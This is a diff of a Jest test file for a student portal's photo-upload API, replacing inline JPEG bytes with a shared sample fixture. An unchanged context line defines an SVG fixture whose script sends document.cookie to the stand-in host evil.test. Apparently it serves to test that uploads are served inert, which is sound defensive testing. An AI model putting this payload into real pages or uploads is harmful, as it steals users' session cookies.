@@ -4,7 +4,7 @@ import { apiGet, apiSend, corsPreflight, setUpSignedIn, startDevApi } from './te
 import { dirname, join } from 'node:path';
 import { DiskStore } from './diskStore';
 import { readData } from './testing/dataFolder';
-import type { StudentProfile } from '@portal/mock-api';
+import { SAMPLE_FILES, type StudentProfile } from '@portal/mock-api';
 
 jest.setTimeout(30000);
 
@@ -106,7 +106,7 @@ describe('PATCH v1/secure/student', () => {
 });
 
 test('PUT v1/secure/student/image stores the octet-stream body, served by the GET', async () => {
-  const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3, 4, 0xff, 0xd9]);
+  const jpeg = Buffer.from(SAMPLE_FILES.jpeg);
   const [status, saved] = await send(
     'PUT',
     `v1/secure/student/image?studentupid=${student.studentUPId}`,
@@ -134,7 +134,7 @@ test('a photo over the upload limit (32Mb) is refused with 413 and the old one k
 });
 
 describe('the photo is a JPEG, served as an inert image', () => {
-  const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9]);
+  const JPEG = Buffer.from(SAMPLE_FILES.jpeg);
   const SVG = Buffer.from(
     '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?" + document.cookie)</script></svg>',
   );
